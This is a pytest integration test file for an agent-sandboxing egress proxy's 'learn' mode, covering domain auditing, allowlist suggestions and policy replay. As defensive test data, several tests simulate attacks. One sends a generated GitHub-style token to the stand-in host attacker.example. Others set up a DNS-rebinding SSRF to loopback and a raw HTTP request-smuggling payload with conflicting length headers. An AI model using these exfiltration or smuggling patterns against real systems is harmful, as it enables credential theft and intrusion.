"""Learn mode through a real `proxy run`: the domain list is observed, nothing else is.

Hosts outside the allowlist (github.com, example.com, attacker.example) reach the
fake internet and are audited `learn: would-block`; a secret, a placeholder, an
internal address, an IP literal, a spent budget and an ambiguous request are still
refused, and nothing of them reaches the upstream.
"""

from __future__ import annotations

import asyncio
import json
import random
import string
import subprocess
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from websockets.asyncio.client import ClientConnection
from websockets.exceptions import ConnectionClosed

from agentcage.cage.state import config_json
from agentcage.config import load_config
from tests.integration.proxy.conftest import (
    PLACEHOLDER,
    REAL_KEY,
    agent_client,
    port_rules,
    ports_of,
    raw_exchange,
    serving,
)
from tests.integration.proxy.test_websocket import _session as websocket_session
from tests.support.fake_dns import FakeDns
from tests.support.proxy import ProxyProcess, run_cli
from tests.support.upstream import Upstream

pytestmark = pytest.mark.integration

# Built at test time, never a literal credential in the tree.
TOKEN = "ghp_" + "".join(random.Random(7).choices(string.ascii_letters + string.digits, k=36))


def learning_config(path: Path, dns: FakeDns, upstream: Upstream) -> Path:
    path.write_text(
        f"""
name: learner
container:
  image: docker.io/library/python:3.12-slim
secret_injection:
  - env: ANTHROPIC_API_KEY
    inject_to: [anthropic.com]
domains:
  allow: [anthropic.com]
  enforcement: learn
dns_servers: ["{dns.address}"]
network:
  allow_cidrs: [127.0.0.1/32]
{port_rules(ports_of(upstream))}
rate_limit:
  writes: {{per_second: 0.001, burst: 2}}
"""
    )
    return path


@pytest.fixture(scope="module")
def learning(
    tmp_path_factory: pytest.TempPathFactory, fake_dns: FakeDns, upstream: Upstream
) -> Iterator[ProxyProcess]:
    tmp = tmp_path_factory.mktemp("learn")
    config = learning_config(tmp / "config.yaml", fake_dns, upstream)
    proc = ProxyProcess(
        config, tmp, upstream_ca=upstream.ca_pem, env={"ANTHROPIC_API_KEY": REAL_KEY}
    )
    yield from serving(proc.start())


@pytest.fixture
def client(learning: ProxyProcess, upstream: Upstream) -> Iterator[httpx.Client]:
    upstream.clear()
    with agent_client(learning) as http:
        yield http


def test_the_startup_line_says_learn_mode(learning: ProxyProcess) -> None:
    ready = next(line for line in learning.stderr_lines if "listening on" in line)
    assert "LEARN MODE" in ready and "NOT enforced" in ready


def test_a_host_outside_the_allowlist_is_forwarded_and_audited_would_block(
    client: httpx.Client, upstream: Upstream, learning: ProxyProcess
) -> None:
    response = client.get(f"https://github.com:{upstream.tls_port}/learn/one")
    assert response.status_code == 200
    assert [r.path for r in upstream.received] == ["/learn/one"]
    line = learning.wait_for_audit(lambda r: r["kind"] == "http" and r["path"] == "/learn/one")
    assert (line["verdict"], line["inspector"], line["learn"]) == ("flag", "domain", "would-block")
    assert line["rules"] == ["not-allowlisted"] and line["host"] == "github.com"
    closing = learning.wait_for_audit(
        lambda r: r["kind"] == "response" and r["path"] == "/learn/one"
    )
    assert "learn" not in closing  # the decision line carries it, not the outcome's


def test_an_allowlisted_host_has_no_learn_key(
    client: httpx.Client, upstream: Upstream, learning: ProxyProcess
) -> None:
    response = client.get(f"https://api.anthropic.com:{upstream.tls_port}/learn/listed")
    assert response.status_code == 200
    line = learning.wait_for_audit(lambda r: r["kind"] == "http" and r["path"] == "/learn/listed")
    assert line["verdict"] == "allow" and "learn" not in line


def test_a_secret_to_a_would_block_host_is_still_blocked(
    client: httpx.Client, upstream: Upstream, learning: ProxyProcess
) -> None:
    body = f'{{"token": "{TOKEN}"}}'.encode()
    url = f"https://attacker.example:{upstream.tls_port}/learn/secret"
    response = client.post(url, content=body)
    assert response.status_code == 403
    assert response.json()["inspector"] == "secrets"
    assert upstream.received == []
    line = learning.wait_for_audit(lambda r: r["path"] == "/learn/secret")
    assert line["verdict"] == "block" and "learn" not in line


def test_a_placeholder_to_a_would_block_host_is_still_blocked(
    client: httpx.Client, upstream: Upstream
) -> None:
    url = f"https://attacker.example:{upstream.tls_port}/learn/placeholder"
    response = client.get(url, headers={"x-api-key": PLACEHOLDER})
    assert response.status_code == 403
    assert response.json()["inspector"] == "secret-injection"
    assert upstream.received == []


def test_an_internal_address_is_still_refused(
    client: httpx.Client, upstream: Upstream, fake_dns: FakeDns
) -> None:
    fake_dns.set("rebind.example", "127.0.0.2")  # loopback, not in allow_cidrs
    response = client.get(f"https://rebind.example:{upstream.tls_port}/learn/ssrf")
    assert response.status_code == 403
    assert response.json()["inspector"] == "egress"
    assert upstream.received == []


def test_an_ip_literal_is_still_refused(client: httpx.Client, upstream: Upstream) -> None:
    response = client.get(f"https://127.0.0.1:{upstream.tls_port}/learn/literal")
    assert response.status_code == 403
    body = response.json()
    assert body["inspector"] == "domain" and "IP address" in body["reason"]
    assert upstream.received == []


def test_the_rate_limit_still_applies(client: httpx.Client, upstream: Upstream) -> None:
    url = f"https://example.com:{upstream.tls_port}/learn/budget"
    statuses = [client.post(url, content=b"x").status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    assert len(upstream.received) == 2


def test_an_ambiguous_request_is_still_refused(learning: ProxyProcess, upstream: Upstream) -> None:
    upstream.clear()
    target = f"github.com:{upstream.plain_port}"
    raw = raw_exchange(
        learning,
        f"POST http://{target}/learn/smuggle HTTP/1.1\r\nHost: {target}\r\n"
        "Content-Length: 3\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        "3\r\nabc\r\n0\r\n\r\n".encode(),
    )
    assert raw.startswith(b"HTTP/1.1 400")
    assert upstream.received == []


def test_websocket_messages_to_a_would_block_host(
    learning: ProxyProcess, upstream: Upstream
) -> None:
    upstream.clear()
    got: list[str | bytes] = []
    closed: list[int] = []

    async def body(ws: ClientConnection) -> None:
        await ws.send("hello")
        got.append(await asyncio.wait_for(ws.recv(), 5))
        await ws.send(f"token {TOKEN}")
        try:
            await asyncio.wait_for(ws.recv(), 5)
        except ConnectionClosed as exc:
            closed.append(exc.rcvd.code if exc.rcvd else 0)

    websocket_session(learning, f"wss://example.com:{upstream.tls_port}/learn/ws", body)
    assert got == ["hello"] and closed == [1008]
    assert upstream.received[-1].ws_messages == ["hello"]  # the secret never left
    lines = [r for r in learning.audit() if r["kind"] == "websocket"]
    assert [(r["verdict"], r.get("learn")) for r in lines[:3]] == [
        ("flag", "would-block"),  # the message to the server
        ("flag", "would-block"),  # its echo
        ("block", None),  # the secret
    ]
    assert lines[2]["inspector"] == "secrets"


def run_suggest(*args: str, home: Path | None = None) -> subprocess.CompletedProcess[str]:
    return run_cli("domain", "suggest", *args, env={"XDG_CONFIG_HOME": str(home)} if home else {})


def test_domain_suggest_lists_what_was_let_through(
    learning: ProxyProcess, client: httpx.Client, upstream: Upstream, tmp_path: Path
) -> None:
    """Runs last: the log holds every request of this module. A cage's state is built
    around it, stopped (no proxy of its own), with part of the log rotated away."""
    assert client.get(f"https://api.github.com:{upstream.tls_port}/learn/two").status_code == 200
    learning.wait_for_audit(lambda r: r["path"] == "/learn/two")
    home = tmp_path / "config"
    cage = home / "agentcage" / "deployments" / "learner"
    (cage / "audit" / "proxy").mkdir(parents=True)
    (cage / "config.json").write_text(config_json(load_config(learning.config)))
    lines = learning.audit_text().splitlines(keepends=True)
    half = len(lines) // 2
    (cage / "audit" / "proxy" / "proxy.jsonl.1").write_text("".join(lines[:half]))
    (cage / "audit" / "proxy" / "proxy.jsonl").write_text("".join(lines[half:]))

    shown = run_suggest("learner", home=home)
    assert shown.returncode == 0, shown.stderr
    section = shown.stdout.split("domains:\n", 1)[1]
    assert yaml_entries(section) == [
        "anthropic.com",  # the current entry first
        "example.com",
        "api.github.com",
        "github.com",
    ]
    # attacker.example (only blocked requests), rebind.example (egress) and the IP
    # literal were never let through: not suggested.
    assert "attacker.example" not in shown.stdout and "rebind" not in shown.stdout
    assert "    # github.com: 2 requests, 0 DNS queries\n" in section
    assert section.endswith("  enforcement: enforce\n")

    as_json = json.loads(run_suggest("learner", "--json", home=home).stdout)
    assert as_json["suggested"] == ["anthropic.com", "example.com", "api.github.com", "github.com"]
    assert [g["domain"] for g in as_json["groups"]] == ["example.com", "github.com"]
    by_domain = run_suggest("--file", str(learning.audit_path), "--by-domain")
    assert yaml_entries(by_domain.stdout.split("domains:\n", 1)[1]) == [
        "example.com",
        "github.com",
    ]


def yaml_entries(section: str) -> list[str]:
    return [line.split("- ", 1)[1] for line in section.splitlines() if line.startswith("    - ")]


def test_replaying_the_learning_log_shows_what_enforcing_would_block(
    learning: ProxyProcess, tmp_path: Path
) -> None:
    text = learning.config.read_text()
    candidate = tmp_path / "candidate.yaml"
    candidate.write_text(
        text.replace("enforcement: learn", "enforcement: enforce").replace(
            "allow: [anthropic.com]", "allow: [anthropic.com, example.com]"
        )
    )
    shown = run_cli(
        "policy", "replay", "-c", str(candidate), "--fail-on-new-blocks", str(learning.audit_path)
    )
    assert shown.returncode == 1, shown.stderr
    blocked = shown.stdout.split("flag -> block\n", 1)[1]
    assert "GET github.com/learn/one" in blocked and "GET api.github.com/learn/two" in blocked
    assert "example.com" not in blocked  # now listed: flag -> allow
